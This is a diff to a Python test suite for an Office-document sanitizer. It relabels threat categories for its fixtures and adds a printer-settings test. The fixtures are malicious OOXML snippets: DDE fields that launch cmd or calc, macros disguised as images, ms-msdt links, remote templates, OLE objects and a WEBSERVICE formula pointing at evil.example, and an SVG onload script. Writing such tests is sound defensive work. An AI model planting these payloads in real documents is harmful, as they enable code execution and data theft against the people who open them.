@@ -118,7 +118,7 @@ THREATS: dict[str, tuple[bytes, set[str], bytes]] = {
     "macros called a picture": (word("", parts={"word/media/image1.png": VBA}, relationships={"word/document.xml": [(MICROSOFT + "vbaProject", "media/image1.png", False)]}, overrides={"word/media/image1.png": "image/png"}), {"macro"}, b"_VBA_PROJECT"),
     "DDE over runs": (word(field("DD", "EAU", "TO c:\\\\cmd.exe")), {"dde"}, b"EAU"),
     "DDE in a comment of XML": (word(field("DD<!-- x -->EAUTO cmd")), {"dde"}, b"EAUTO"),
-    "DDE in alternative content": (word(field("PAGE ", around="{}") .replace("PAGE ", "").replace("</w:instrText>", "</w:instrText><mc:AlternateContent><mc:Fallback><w:instrText>PAGE </w:instrText></mc:Fallback></mc:AlternateContent><w:instrText>DDE cmd</w:instrText>", 1), ' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'), {"action", "dde"}, b"DDE"),
+    "DDE in alternative content": (word(field("PAGE ", around="{}") .replace("PAGE ", "").replace("</w:instrText>", "</w:instrText><mc:AlternateContent><mc:Fallback><w:instrText>PAGE </w:instrText></mc:Fallback></mc:AlternateContent><w:instrText>DDE cmd</w:instrText>", 1), ' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'), {"ambiguous-markup", "dde"}, b"DDE"),
     "DDE by a simple field": (word('<w:fldSimple w:instr="D&#68;E cmd"><w:r><w:t>result</w:t></w:r></w:fldSimple>'), {"dde"}, b"fldSimple"),
     "DDE by QUOTE": (word(instruction("QUOTE 68 68 69 65 85 84 79 32 99")), {"dde"}, b"QUOTE"),
     "DDE in a deletion": (word(instruction("x").replace("instrText", "delInstrText").replace(">x<", ">DDEAUTO x<")), {"dde"}, b"DDEAUTO"),
@@ -128,41 +128,40 @@ THREATS: dict[str, tuple[bytes, set[str], bytes]] = {
     "field link behind a switch": (word(instruction('HYPERLINK \\o "tip" "ms-msdt:/id x"')), {"hyperlink"}, b"msdt"),
     "field link behind a switch without value": (word(instruction("HYPERLINK \\h file://evil/x")), {"hyperlink"}, b"evil"),
     "second target of a field link": (word(instruction('HYPERLINK "https://example.com/" "file://evil/x"')), {"hyperlink"}, b"evil"),
-    "DDE in text of the code": (word(field("PAGE").replace("<w:r><w:instrText", "<w:r><w:t>DDEAUTO evil </w:t></w:r><w:r><w:instrText", 1)), {"action"}, b"PAGE"),
+    "DDE in text of the code": (word(field("PAGE").replace("<w:r><w:instrText", "<w:r><w:t>DDEAUTO evil </w:t></w:r><w:r><w:instrText", 1)), {"ambiguous-markup"}, b"PAGE"),
     "field link to ms-msdt": (word(instruction('HYPERLINK "ms-msdt:/id x"')), {"hyperlink"}, b"msdt"),
     "template": (word("", parts={"word/settings.xml": settings_part('<w:attachedTemplate r:id="rId1"/>')}, relationships={"word/document.xml": [("settings", "settings.xml", False)], "word/settings.xml": [("attachedTemplate", ADDRESS, True)]}, overrides={"word/settings.xml": W + "settings+xml"}), {"remote-template"}, b"attachedTemplate"),
-    "frame": (word("", parts={"word/webSettings.xml": settings_part('<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>')}, relationships={"word/document.xml": [("webSettings", "webSettings.xml", False)], "word/webSettings.xml": [("frame", ADDRESS, True)]}, overrides={"word/webSettings.xml": W + "webSettings+xml"}), {"external-relationship"}, b"evil"),
+    "frame": (word("", parts={"word/webSettings.xml": settings_part('<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>')}, relationships={"word/document.xml": [("webSettings", "webSettings.xml", False)], "word/webSettings.xml": [("frame", ADDRESS, True)]}, overrides={"word/webSettings.xml": W + "webSettings+xml"}), {"external-relationship", "remote-template"}, b"evil"),
     "link to ms-msdt": (word('<w:hyperlink r:id="rId1"><w:r><w:t>x</w:t></w:r></w:hyperlink>', relationships={"word/document.xml": [("hyperlink", "ms-msdt:/id", True)]}), {"hyperlink"}, b"msdt"),
     "link to a share": (word('<w:hyperlink r:id="rId1"><w:r><w:t>x</w:t></w:r></w:hyperlink>', relationships={"word/document.xml": [("hyperlink", "file://evil/x", True)]}), {"hyperlink"}, b"file:"),
     "embedded object": (word('<w:object><o:OLEObject r:id="rId1" Type="Embed"/></w:object>', ' xmlns:o="urn:schemas-microsoft-com:office:office"', parts=OBJECT, relationships={"word/document.xml": [("oleObject", "embeddings/oleObject1.bin", False)]}, overrides={"word/embeddings/oleObject1.bin": "application/vnd.openxmlformats-officedocument.oleObject"}), {"embedded-object"}, b"OLEObject"),
-    "linked object": (word('<w:object><o:OLEObject r:id="rId1" Type="Link"/></w:object>', ' xmlns:o="urn:schemas-microsoft-com:office:office"', relationships={"word/document.xml": [("oleObject", "mhtml:https://evil.example/!x", True)]}), {"embedded-object"}, b"evil"),
+    "linked object": (word('<w:object><o:OLEObject r:id="rId1" Type="Link"/></w:object>', ' xmlns:o="urn:schemas-microsoft-com:office:office"', relationships={"word/document.xml": [("oleObject", "mhtml:https://evil.example/!x", True)]}), {"embedded-object", "remote-template"}, b"evil"),
     "package": (word("", parts={"word/embeddings/x.bin": b"MZ"}, relationships={"word/document.xml": [("package", "embeddings/x.bin", False)]}), {"embedded-object"}, b"MZ"),
     "ActiveX": (word('<w:control r:id="rId1"/>', parts={"word/activeX/activeX1.xml": b"<x/>"}, relationships={"word/document.xml": [("control", "activeX/activeX1.xml", False)]}, overrides={"word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"}), {"activex"}, b"w:control"),
     "custom menus": (ooxml("docx", {"customUI/customUI.xml": b"<customUI onLoad='x'/>"}, {"": [("officeDocument", "word/document.xml", False), (MICROSOFT + "ui/extensibility", "customUI/customUI.xml", False)]}, main=word_main(TEXT)), {"custom-ui"}, b"customUI"),
     "VML with link": (word('<v:shape src="https://evil.example/x"><v:imagedata o:href="file://evil/x"/></v:shape>', ' xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'), {"hyperlink", "remote-image"}, b"evil"),
     "embedded font": (word("", parts={"word/fontTable.xml": settings_part('<w:font><w:embedRegular r:id="rId1"/></w:font>'), "word/fonts/font1.odttf": b"x" * 50}, relationships={"word/document.xml": [("fontTable", "fontTable.xml", False)], "word/fontTable.xml": [("font", "fonts/font1.odttf", False)]}, overrides={"word/fontTable.xml": W + "fontTable+xml", "word/fonts/font1.odttf": "application/vnd.openxmlformats-officedocument.obfuscatedFont"}), {"embedded-font"}, b"embedRegular"),
     "other document": (word('<w:altChunk r:id="rId1"/>', parts={"word/chunk.htm": b"<script>"}, relationships={"word/document.xml": [("aFChunk", "chunk.htm", False)]}), {"embedded-object"}, b"altChunk"),
-    "mail merge": (word("", parts={"word/settings.xml": settings_part("<w:mailMerge><w:query w:val='evil'/></w:mailMerge>")}, relationships={"word/document.xml": [("settings", "settings.xml", False)]}, overrides={"word/settings.xml": W + "settings+xml"}), {"external-relationship"}, b"mailMerge"),
+    "mail merge": (word("", parts={"word/settings.xml": settings_part("<w:mailMerge><w:connectString w:val='Data Source=//evil/x'/></w:mailMerge>")}, relationships={"word/document.xml": [("settings", "settings.xml", False)]}, overrides={"word/settings.xml": W + "settings+xml"}), {"external-relationship"}, b"mailMerge"),
     "form macro": (word("<w:ffData><w:entryMacro w:val='Run'/></w:ffData>"), {"macro"}, b"entryMacro"),
     "video": (word("<wp15:webVideoPr embeddedHtml='&lt;iframe&gt;'/>", ' xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"'), {"active-content"}, b"iframe"),
     "formula with DDE": (workbook("<c r='A1'><f>cmd|'/c calc'!A0</f><v>1</v></c>"), {"dde"}, b"calc"),
-    "formula that loads": (workbook('<c r="A1"><f>_xlfn.WEBSERVICE("https://evil.example/"&amp;B1)</f><v>1</v></c>'), {"external-relationship"}, b"evil"),
+    "formula that loads": (workbook('<c r="A1"><f>_xlfn.WEBSERVICE("https://evil.example/"&amp;B1)</f><v>1</v></c>'), {"formula"}, b"evil"),
     "formula that calls": (workbook('<c r="A1"><f>CALL("x","y","z")</f><v>1</v></c>'), {"macro"}, b"CALL"),
     "formula in two pieces": (workbook("<c r='A1'><f>1+<x/>cmd|'/c calc'!A0</f><v>1</v></c>"), {"dde"}, b"calc"),
-    "function by name": (workbook('<c r="A1"><f>_xlfn.MAP(B1,_xleta.WEBSERVICE)</f><v>1</v></c>'), {"external-relationship"}, b"WEBSERVICE"),
-    "function in a name": (workbook("", "<definedName name='a'>_xlfn.LET(_xlpm.f,_xleta.HYPERLINK,_xlpm.f(One!$A$1))</definedName>"), {"external-relationship"}, b"HYPERLINK"),
-    "publishing": (workbook('<c r="A1"/></row></sheetData><webPublishItems><webPublishItem destinationFile="//evil/x"/></webPublishItems><sheetData><row>'), {"external-relationship"}, b"evil"),
+    "function by name": (workbook('<c r="A1"><f>_xlfn.MAP(B1,_xleta.WEBSERVICE)</f><v>1</v></c>'), {"formula"}, b"WEBSERVICE"),
+    "function in a name": (workbook("", "<definedName name='a'>_xlfn.LET(_xlpm.f,_xleta.HYPERLINK,_xlpm.f(One!$A$1))</definedName>"), {"formula"}, b"HYPERLINK"),
+    "publishing": (workbook('<c r="A1"/></row></sheetData><webPublishItems><webPublishItem destinationFile="//evil/x"/></webPublishItems><sheetData><row>'), {"external-data"}, b"evil"),
     "link by formula": (workbook('<c r="A1"><f>HYPERLINK("ms-msdt:x","y")</f><v>1</v></c>'), {"hyperlink"}, b"msdt"),
     "automatic name": (workbook("", '<definedName name="_xlnm.Auto_Open">One!$A$1</definedName>'), {"xlm"}, b"Auto_Open"),
     "macro sheet": (workbook("", kind="xlsm", parts={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet xmlns:xm='x'><f>EXEC(1)</f></xm:macrosheet>"}, relationships={"more": [(MICROSOFT + "xlMacrosheet", "macrosheets/sheet1.xml", False)]}, overrides={"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"}), {"xlm", "macro"}, b"EXEC"),
     "DDE link": (workbook("", parts={"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode()}, relationships={"more": [("externalLink", "externalLinks/externalLink1.xml", False)]}, overrides={"xl/externalLinks/externalLink1.xml": S + "externalLink+xml"}), {"dde"}, b"calc"),
-    "book elsewhere": (workbook("", parts={"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}" xmlns:r="{REL}"><externalBook r:id="rId1"/></externalLink>'.encode()}, relationships={"more": [("externalLink", "externalLinks/externalLink1.xml", False)], "xl/externalLinks/externalLink1.xml": [("externalLinkPath", "file:///\\\\evil\\x.xlsx", True)]}, overrides={"xl/externalLinks/externalLink1.xml": S + "externalLink+xml"}), {"external-relationship"}, b"evil"),
-    "query": (workbook("", parts={"xl/connections.xml": b"<connections/>"}, relationships={"more": [("connections", "connections.xml", False)]}, overrides={"xl/connections.xml": S + "connections+xml"}), {"external-relationship"}, b"connections"),
-    "printer settings": (workbook("", parts={"xl/printerSettings/p1.bin": b"x"}, relationships={"xl/worksheets/sheet1.xml": [("printerSettings", "../printerSettings/p1.bin", False)]}), {"printer-settings"}, b"printerSettings"),
-    "program on click": (slide(click='<a:hlinkClick r:id="" action="ppaction://program"/>'), {"action"}, b"program"),
+    "book elsewhere": (workbook("", parts={"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}" xmlns:r="{REL}"><externalBook r:id="rId1"/></externalLink>'.encode()}, relationships={"more": [("externalLink", "externalLinks/externalLink1.xml", False)], "xl/externalLinks/externalLink1.xml": [("externalLinkPath", "file:///\\\\evil\\x.xlsx", True)]}, overrides={"xl/externalLinks/externalLink1.xml": S + "externalLink+xml"}), {"external-data"}, b"evil"),
+    "query": (workbook("", parts={"xl/connections.xml": b"<connections><connection refreshOnLoad='1'/></connections>"}, relationships={"more": [("connections", "connections.xml", False)]}, overrides={"xl/connections.xml": S + "connections+xml"}), {"external-relationship"}, b"connections"),
+    "program on click": (slide(click='<a:hlinkClick r:id="" action="ppaction://program"/>'), {"launch"}, b"program"),
     "macro on click": (slide(click='<a:hlinkClick r:id="" action="PPaction://Macro?name=x"/>'), {"macro"}, b"Macro"),
     "object by animation": (slide(after='<p:timing><p:cmd type="verb" cmd="0"/></p:timing>'), {"action"}, b"verb"),
-    "object in slide": (slide('<p:graphicFrame><p:oleObj r:id="rId1"><p:pic><a:blip/></p:pic></p:oleObj></p:graphicFrame>', [("oleObject", ADDRESS, True)]), {"embedded-object"}, b"oleObj"),
+    "object in slide": (slide('<p:graphicFrame><p:oleObj r:id="rId1"><p:pic><a:blip/></p:pic></p:oleObj></p:graphicFrame>', [("oleObject", ADDRESS, True)]), {"embedded-object", "remote-template"}, b"oleObj"),
     "picture in slide from elsewhere": (slide('<a:blip r:link="rId1"/>', [("image", ADDRESS, True)]), {"remote-image"}, b"evil"),
     "SVG with script": (word("", parts={"word/media/a.svg": b"<svg onload='alert(1)'/>"}, relationships={"word/document.xml": [("image", "media/a.svg", False)]}, overrides={"word/media/a.svg": "image/svg+xml"}), {"svg"}, b"onload"),
 }  # fmt: skip
@@ -221,6 +220,18 @@ def test_a_macro_sheet_under_another_label_is_refused() -> None:
     sheets["xl/worksheets/sheet1.xml"] = b"<xm:macrosheet xmlns:xm='x'/>"
     with pytest.raises(Refused, match="ambiguous"):
         disarm(zipped(sheets))
+
+
+def test_printer_settings_stay_where_metadata_may() -> None:
+    part = {"xl/printerSettings/p1.bin": bytes(200)}
+    content = workbook(
+        "",
+        parts=part,
+        relationships={"xl/worksheets/sheet1.xml": [("printerSettings", "../printerSettings/p1.bin", False)]},
+        overrides={"xl/printerSettings/p1.bin": S + "printerSettings"},
+    )
+    assert disarm(content).data is content
+    assert disarm(content, kept=frozenset()).removed == ("metadata",)
 
 
 def test_the_codes_have_words() -> None:
